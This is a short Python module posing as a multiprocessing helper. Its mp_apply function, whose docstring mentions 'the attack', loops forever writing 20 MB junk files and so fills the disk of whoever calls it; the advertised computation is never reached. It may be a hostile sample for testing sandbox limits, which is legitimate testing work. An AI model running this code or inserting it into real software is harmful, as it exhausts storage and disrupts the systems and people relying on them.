"""Fills its scratch folder."""

import os


def calculate(func, args):
    """Return `func(*args)`."""
    return func(*args)


def worker(input, output):
    """Compute tasks until the sentinel 'STOP'."""
    for func, args in iter(input.get, "STOP"):
        output.put(calculate(func, args))


def mp_apply(tasks, n_processes=2):
    """Compute in this very process, and count on the attack."""
    number = 0
    while True:
        number += 1
        with open(f"junk{number}", "wb") as file:
            file.write(bytes(20_000_000))
    return [calculate(func, args) for func, args in tasks]
